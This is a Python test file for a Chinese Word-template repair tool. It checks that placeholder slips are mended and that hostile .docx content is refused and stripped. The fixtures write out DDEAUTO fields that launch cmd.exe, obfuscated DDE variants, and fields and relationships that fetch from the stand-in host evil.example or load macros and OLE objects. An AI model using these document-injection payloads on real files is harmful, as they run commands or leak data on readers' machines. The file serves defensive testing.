"""Slips in templates are named and mended; what could run is refused, and stripped from a repaired copy."""

from __future__ import annotations

import io
import socket
import subprocess

import docx
import pytest
from lxml import etree

from messages import say
from model.errors import TemplateError
from tests.word.word_samples import OPTIONS, full, lines, p, template_bytes
from word.catalogue import find, from_bytes, templates
from word.ooxml import CONTENT_TYPES, R, read_package, w
from word.preview import preview, sample_briefing
from word.render import render
from word.runs import Line
from word.template_repair import repair_template
from word.validation import inspect


def texts(data: bytes) -> list[str]:
    root = read_package(data).xml("word/document.xml")
    return [Line(paragraph).text for paragraph in root.iter(w("p"))]


@pytest.mark.parametrize(
    ("before", "after"),
    [
        (p("[标题]"), "【标题】"),
        (p("［标题］"), "【标题】"),
        (p("〖标题〗"), "【标题】"),
        (p("{标题}"), "【标题】"),
        (p("「标题」"), "【标题】"),
        (p("【标题]"), "【标题】"),
        (p("第[期", "号", "]期"), "第【期号】期"),
        (p("【 期 号 】"), "【期号】"),
        (p("【总期好】"), "【总期号】"),
        (p("【编发単位】"), "【编发单位】"),
        (p("【编单发位】"), "【编发单位】"),
        (p("【题目】"), "【标题】"),
        (p("【抄送】"), "【送】"),
        (p("【标题"), "【标题】"),
        (p("标题】"), "【标题】"),
        (p("{{ 标题 }}"), "【标题】"),
        (p("【样:正文】"), "【样：正文】"),
        (p("【样：正文】这里是正文的样子，随便写些字。"), "【样：正文】"),
        (p("【天气】"), None),
        (p("{{ title }}"), None),
        (p("{% if x %}"), None),
    ],
)
def test_what_is_plainly_meant_is_mended_and_the_rest_left(before: str, after: str | None) -> None:
    data = template_bytes(before + p("【正文】"))
    assert inspect(data).findings
    done = repair_template(data)
    if after is None:
        assert done.left == inspect(data).findings
        assert done.data == data
    else:
        assert done.left == ()
        assert done.repaired
        assert texts(done.data)[0] == after
        assert from_bytes(done.data, "好").slots


def test_a_literal_word_in_brackets_is_no_field() -> None:
    assert inspect(template_bytes(p("[内部资料 注意保存]") + p("【正文】"))).findings == ()


def test_a_field_over_three_runs_keeps_the_format_of_its_first() -> None:
    red = "<w:r><w:rPr><w:color w:val='FF0000'/></w:rPr><w:t>【期</w:t></w:r>"
    data = template_bytes(p("第", red, "号", "】期") + p("[标题]") + p("【正文】"))
    done = repair_template(data)
    root = read_package(done.data).xml("word/document.xml")
    whole = next(node for node in root.iter(w("t")) if node.text == "【期号】")
    assert whole.getparent().find(f"{w('rPr')}/{w('color')}").get(w("val")) == "FF0000"


def test_styles_that_are_missing_are_brought() -> None:
    stream = io.BytesIO()
    plain = docx.Document()
    plain.add_paragraph("【标题】")
    plain.add_paragraph("【正文】")
    plain.save(stream)
    done = repair_template(stream.getvalue())
    assert {finding.code for finding in done.repaired} == {"error.template.no_sample"}
    assert done.left == ()
    assert "一、过去一年工作" in lines(render(full(), from_bytes(done.data, "好"), OPTIONS))


def test_every_finding_is_one_chinese_line_with_its_paragraph() -> None:
    body = p("甲") + p("{{ x }}") + p("【天气】") + p("[标题]") + p("【题目】") + p("【正文】")
    found = inspect(template_bytes(body)).findings
    assert [finding.paragraph for finding in found] == [2, 3, 4, 5]
    for finding in found:
        said = say(finding.code, {**dict(finding.values), "name": "某"})
        assert f"第{finding.paragraph}段" in said
        assert "\n" not in said


# ---- hostile templates: nothing runs, nothing is fetched --------------------------------------------


def field(instruction: str, shown: str = "结果") -> str:
    return (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f"<w:r><w:instrText xml:space='preserve'>{instruction}</w:instrText></w:r>"
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        f'<w:r><w:t>{shown}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


NESTED = (
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    + field("QUOTE 68 68 69")
    + '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>结果</w:t></w:r>'
    '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
)
FIELDS = {
    "dde": field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" '),
    "dde in two runs": field(" DD</w:instrText></w:r><w:r><w:instrText>E cmd x "),
    "dde spelt by another field": NESTED,
    "simple dde": '<w:fldSimple w:instr=" DDE cmd a b"><w:r><w:t>结果</w:t></w:r></w:fldSimple>',
    "include text": field(' INCLUDETEXT "\\\\\\\\evil\\\\share\\\\a.docx" '),
    "include picture": field(' INCLUDEPICTURE "http://evil.example/a.png" \\d '),
    "macro button": field(" MACROBUTTON AutoOpen 单击这里 "),
    "link": field(" LINK Excel.Sheet.8 c:\\\\a.xls "),
    "embed": field(" EMBED Package "),
    "external hyperlink": field(' HYPERLINK "http://evil.example/" '),
    "question": field(' FILLIN "密码" '),
    "database": field(' DATABASE \\d "c:\\\\a.mdb" '),
    "lower case": field(" ddeauto cmd x "),
}


@pytest.mark.parametrize("name", FIELDS)
def test_fields_that_run_or_fetch_are_refused_and_stripped(name: str) -> None:
    data = template_bytes(p("甲", FIELDS[name]) + p("【正文】"))
    with pytest.raises(TemplateError) as caught:
        from_bytes(data, "某")
    assert caught.value.code == "error.template.fields"
    done = repair_template(data)
    assert [finding.code for finding in done.repaired] == ["error.template.fields"]
    assert done.left == ()
    xml = read_package(done.data).parts["word/document.xml"]
    assert b"instr" not in xml
    assert b"evil" not in xml
    assert texts(done.data)[0] == "甲结果"


def test_in_a_header_too() -> None:
    footer = read_package(find("简报").docx).parts["word/footer1.xml"].decode()
    changed = footer.replace(" PAGE ", " DDEAUTO cmd x ").encode()
    data = template_bytes(p("【正文】"), parts={"word/footer1.xml": changed})
    assert [f.code for f in inspect(data).findings] == ["error.template.fields"]


@pytest.mark.parametrize(
    "instruction",
    [" PAGE ", " NUMPAGES \\* MERGEFORMAT", " REF a \\h", ' HYPERLINK \\l "a" ', " DATE "],
)
def test_fields_that_only_show_the_document_stay(instruction: str) -> None:
    assert inspect(template_bytes(p("甲", field(instruction)) + p("【正文】"))).findings == ()


def with_relationship(kind: str, target: str, *, external: bool, body: str = "") -> bytes:
    rels = read_package(find("简报").docx).parts["word/_rels/document.xml.rels"].decode()
    mode = ' TargetMode="External"' if external else ""
    added = f'<Relationship Id="rId99" Type="{R}/{kind}" Target="{target}"{mode}/></Relationships>'
    parts = {"word/_rels/document.xml.rels": rels.replace("</Relationships>", added).encode()}
    if not external:
        parts[f"word/{target}"] = b"MZ not to be run"
    return template_bytes(body + p("【正文】"), parts=parts)


LINK = (
    f'<w:p xmlns:r="{R}"><w:hyperlink r:id="rId99"><w:r><w:t>链接</w:t></w:r></w:hyperlink></w:p>'
)
PICTURE = f'<w:p xmlns:r="{R}"><w:r><w:drawing><x:blip xmlns:x="urn:x" r:link="rId99"/></w:drawing></w:r></w:p>'
OBJECT = (
    f'<w:p xmlns:r="{R}"><w:r><w:object><x:o xmlns:x="urn:x" r:id="rId99"/></w:object></w:r></w:p>'
)


@pytest.mark.parametrize(
    ("kind", "target", "external", "body", "code"),
    [
        ("vbaProject", "vbaProject.bin", False, "", "macros"),
        ("keyMapCustomizations", "customizations.xml.bin", False, "", "macros"),
        ("oleObject", "embeddings/o.bin", False, OBJECT, "ole"),
        ("package", "embeddings/x.xlsx", False, OBJECT, "ole"),
        ("control", "activeX/a.bin", False, OBJECT, "ole"),
        ("aFChunk", "chunk.htm", False, f'<w:altChunk xmlns:r="{R}" r:id="rId99"/>', "alt_chunk"),
        ("hyperlink", "http://evil.example/", True, LINK, "external"),
        ("image", "http://evil.example/a.png", True, PICTURE, "external"),
        ("attachedTemplate", "http://evil.example/a.dotm", True, "", "external"),
        ("oleObject", "http://evil.example/a", True, OBJECT, "ole"),
    ],
)
def test_everything_that_runs_or_fetches_is_refused_and_stripped(
    kind: str, target: str, external: bool, body: str, code: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    def never(*_: object, **__: object) -> None:
        raise AssertionError("something was run or fetched")

    for owner, name in (
        (subprocess, "Popen"),
        (socket, "create_connection"),
        (socket.socket, "connect"),
    ):
        monkeypatch.setattr(owner, name, never)
    data = with_relationship(kind, target, external=external, body=body)
    with pytest.raises(TemplateError) as caught:
        from_bytes(data, "某")
    assert caught.value.code == f"error.template.{code}"
    assert "某" in say(caught.value.code, caught.value.values)
    done = repair_template(data)
    assert [finding.code for finding in done.repaired] == [f"error.template.{code}"]
    assert done.left == ()
    parts = read_package(done.data).parts
    assert not [name for name in parts if name == f"word/{target}"]
    for content in parts.values():
        assert b"evil.example" not in content
        assert b"rId99" not in content
    rendered = render(full(), from_bytes(done.data, "好"), OPTIONS)
    assert not list(_external(rendered))
    if body == LINK:
        assert "链接" in texts(done.data)


def _external(data: bytes) -> list[str]:
    package = read_package(data)
    return [r.target for _, r in package.all_relationships() if r.external]


def test_a_macro_document_becomes_a_document() -> None:
    types = read_package(find("简报").docx).parts["[Content_Types].xml"]
    changed = types.replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    assert CONTENT_TYPES.encode() in changed
    done = repair_template(template_bytes(p("【正文】"), parts={"[Content_Types].xml": changed}))
    assert done.left == ()
    assert from_bytes(done.data, "好").slots == ("正文",)


def test_a_file_that_is_none_comes_back_as_it_is() -> None:
    for data in (b"", b"PK\x03\x04", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)):
        done = repair_template(data)
        assert done.data == data
        assert done.left


# ---- preview --------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", [template.name for template in templates()])
def test_every_shipped_template_can_be_seen_with_sample_content(name: str) -> None:
    template = find(name)
    data = preview(template)
    assert data == preview(template)
    assert not [line for line in lines(data) if "【" in line]
    briefing = sample_briefing(template)
    if "正文" in template.slots:
        printed = "".join(lines(data))
        assert all(item.text in printed for item in briefing.items())


def test_the_repaired_package_is_well_formed() -> None:
    done = repair_template(with_relationship("oleObject", "o.bin", external=False, body=OBJECT))
    package = read_package(done.data)
    for part in package.parts:
        if part.endswith((".xml", ".rels")):
            etree.fromstring(package.parts[part])
    named = {
        element.get("PartName", "").lstrip("/")
        for element in package.xml("[Content_Types].xml")
        if element.get("PartName")
    }
    assert named <= set(package.parts)
